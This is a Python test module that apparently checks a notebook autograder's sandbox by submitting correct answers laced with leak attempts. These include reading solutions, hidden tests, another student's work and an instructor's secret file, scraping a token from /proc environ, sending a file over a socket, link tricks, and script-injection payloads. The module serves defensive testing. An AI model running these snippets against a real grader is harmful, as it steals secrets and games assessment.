"""Right answers that read what is none of a student's business, and show it or send it away."""

import os
from pathlib import Path

from ..attack import WRONG, Attack, answers, beside, lost
from ..course import ANSWERS, LAB, indented
from ..world import World

SOFTMAX = ANSWERS["softmax"]
RIGHT = ANSWERS["scale"]


def looks(name: str, does: str, aims: str, code: str) -> Attack:
    """A right answer; its cell tries to look somewhere and goes on if it may not."""
    attempt = f"""\
try:
{indented(code)}
except Exception as error:
    print(type(error).__name__)"""
    return Attack(
        name,
        does,
        answers(
            softmax=f"""\
{SOFTMAX}

{attempt}"""
        ),
        aims=f"leak: {aims}",
    )


def tells(name: str, does: str, code: str, later: str = "", earns: dict[str, float] | None = None) -> Attack:
    """A right softmax that does something with what it is given; ``later`` is run in the next answer's cell."""
    body = SOFTMAX.replace(
        "scores):\n",
        f"""\
scores):
{indented(code)}
""",
    )
    return Attack(
        name,
        does,
        answers(softmax="seen = []\n" + body, scale=f"{RIGHT}\n{later}"),
        earns or lost(),
        aims="leak: hidden inputs",
    )


def linked_file(folder: Path, world: World) -> None:
    """A link beside the notebook."""
    (folder / "data.txt").symlink_to(world.host / "id_secret")


def hard_link(folder: Path, world: World) -> None:
    """A second name for a file of the host."""
    os.link(world.host / "id_secret", folder / "data.txt")


SHOW_DATA = f"""\
{SOFTMAX}

try:
    print(open('data.txt').read())
except OSError:
    print('no data')"""

ATTACKS = [
    looks("reads-solutions", "Prints the solutions.", "solution", f"print(open('$ROOT/solutions/{LAB}/{LAB}.ipynb').read())"),
    looks("reads-solutions-backwards", "Prints the solutions backwards, so that no filter knows them.", "solution", f"print(open('$ROOT/solutions/{LAB}/{LAB}.ipynb').read()[::-1])"),
    looks("reads-solutions-as-hex", "Shows the solutions as a hexadecimal picture text.", "solution", f"from IPython.display import display\ndisplay({{'text/plain': open('$ROOT/solutions/{LAB}/{LAB}.ipynb', 'rb').read().hex()}}, raw=True)"),
    looks("searches-for-solutions", "Looks through all folders above and beside its own.", "solution", """\
import os, pathlib
for top in [pathlib.Path(os.environ.get('TMPDIR', '/tmp')).parent, *pathlib.Path.cwd().parents][:3]:
    if str(top) == '/': continue
    for path in top.rglob('*.ipynb'):
        if 'solutions' in path.parts: print(path.read_text())"""),
    looks("reads-through-proc", "Reads the solutions through the root folders of other processes.", "solution", f"""\
import os
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        print(open(f'/proc/{{pid}}/root$ROOT/solutions/{LAB}/{LAB}.ipynb').read())
        break
    except OSError: pass"""),
    looks("reads-gradebook", "Reads the tests from the gradebook.", "hidden tests", """\
import sqlite3
for (source,) in sqlite3.connect('file:$WORK/gradebook.db?mode=ro', uri=True).execute('select source from source_cell'):
    print(source)"""),
    looks("reads-bystander", "Reads another student's submission.", "bystander", "print(open('$BYSTANDER').read())"),
    looks("reads-staged-submissions", "Looks for what the grader laid out in the temporary folder.", "bystander", """\
import os, pathlib, tempfile
for top in {os.environ.get('TMPDIR', '/tmp'), tempfile.gettempdir()}:
    for path in pathlib.Path(top).rglob('*.ipynb'):
        print(path.read_text())"""),
    looks("reads-host", "Reads a private file of the instructor's.", "host", "print(open('$HOST/id_secret').read())"),
    looks("shell-reads-host", "The same through a shell.", "host", "import subprocess\nprint(subprocess.run('cat $HOST/id_secret', shell=True, capture_output=True, text=True).stdout)"),
    looks("home-reads-host", "The same through the home folder.", "host", "import os\nprint(open(os.path.expanduser('~/id_secret')).read())"),
    looks("environment", "Prints its environment.", "environment", "import os\nprint(dict(os.environ))"),
    looks("environment-of-others", "Prints the environment of the processes that started it.", "environment", """\
import os
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        words = open(f'/proc/{pid}/environ').read().split('\\0')
        print([w for w in words if w.startswith('INSTRUCTOR_TOKEN')] or '')
    except OSError: pass"""),
    looks("seed-in-environment", "Prints the private seed.", "seed", "import os\nprint(os.environ.get('SEQ2GPT_GRADING_SEED'))"),
    looks("seed-in-file", "Reads the private seed's file.", "seed", "print(open('$WORK/.grading_seed').read())"),
    looks("seed-in-open-files", "Reads every file that the process was given open.", "seed", """\
import os
for fd in range(3, 64):
    try:
        print(os.pread(fd, 100_000, 0))
    except OSError: pass"""),
    looks("sends-host", "Sends a private file over the network.", "host", """\
import socket
with socket.create_connection(('127.0.0.1', $PORT), timeout=3) as s:
    s.sendall(('$NAME ' + open('$HOST/id_secret').read()).encode())"""),
    Attack("linked-file", "A link beside the notebook leads to a private file.", beside(linked_file, softmax=SHOW_DATA), aims="leak: host"),
    Attack("hard-link", "A hard link beside the notebook is a private file.", beside(hard_link, softmax=SHOW_DATA), aims="leak: host"),
    Attack("history", "Keeps the text of the test and shows it in a later cell.", answers(softmax="kept = []\n" + SOFTMAX.replace("scores):\n", """\
scores):
    kept.append(globals().get('In', ['none'])[-1])
"""), scale=f"{RIGHT}\nprint(kept)"), aims="leak: hidden tests"),
    Attack("line-cache", "Shows the text of earlier tests from Python's line cache.", answers(windows=ANSWERS["windows"] + """\

import linecache
print([e[2] for e in linecache.cache.values() if len(e) > 2 and any('BEGIN HIDDEN' in line for line in e[2])])"""), aims="leak: hidden tests"),
    Attack("constants-of-the-caller", "Looks for the text of the test in the callers' frames.", answers(softmax="kept = []\n" + SOFTMAX.replace("scores):\n", """\
scores):
    import sys
    frame = sys._getframe()
    while frame:
        kept.extend(v for v in list(frame.f_locals.values()) if isinstance(v, str))
        frame = frame.f_back
"""), scale=f"{RIGHT}\nprint(kept)"), aims="leak: hidden tests"),
    tells("prints-inputs", "Prints the inputs of the hidden tests.", "print(scores.tolist())"),
    tells("warns-of-inputs", "Puts the inputs into a warning.", "import warnings\nwarnings.warn(str(scores.tolist()))"),
    tells("raises-inputs", "Puts the inputs into the text of an error.", "if scores.dim() == 3: raise ValueError(str(scores.tolist()))", earns=lost("softmax")),
    tells("class-of-inputs", "Puts the inputs into the name of an error.", "if scores.dim() == 3: raise type(str(scores[0, 0, 0].item()), (Exception,), {})", earns=lost("softmax")),
    tells("keeps-inputs", "Keeps the inputs and prints them in a later cell.", "seen.append(scores.tolist())", later="print(seen)"),
    tells("files-inputs", "Keeps the inputs in a file and prints them in a later cell.", "open('seen.txt', 'a').write(str(scores.tolist()))", later="print(open('seen.txt').read())"),
    tells("raises-kept-inputs", "Keeps the inputs and puts them into the error of a later cell.", "seen.append(scores.tolist())", later="raise ValueError(str(seen))", earns=lost()),
    tells("shows-kept-inputs", "Keeps the inputs and prints them when the next answer is tested with open inputs.", "seen.append(scores.tolist())", later="scale_forward = Scale.forward\ndef forward(self, x):\n    print(seen)\n    return scale_forward(self, x)\nScale.forward = forward"),
    Attack("script-in-essay", "The essay holds a script.", beside(lambda folder, world: (folder / f"{LAB}.ipynb").write_text((folder / f"{LAB}.ipynb").read_text().replace("Why are large scores dangerous?", "<script>attack()</script><img src=x onerror=attack()> [link](javascript:attack())"))), aims="html"),
    Attack("script-in-output", "An answer displays a script.", answers(softmax=f"""\
{SOFTMAX}
from IPython.display import HTML, SVG, display
display(HTML('<script>attack()</script><img src=x onerror=attack()>'))
display({{'image/svg+xml': '<svg><script>attack()</script></svg>', 'text/plain': 'x'}}, raw=True)
display({{'text/markdown': '<script>attack()</script>', 'text/plain': 'x'}}, raw=True)"""), aims="html"),
    Attack("script-in-error", "An error's text holds a script.", answers(softmax=WRONG["softmax"] + "\nraise ValueError('<script>attack()</script>')"), lost("softmax"), aims="html"),
]  # fmt: skip
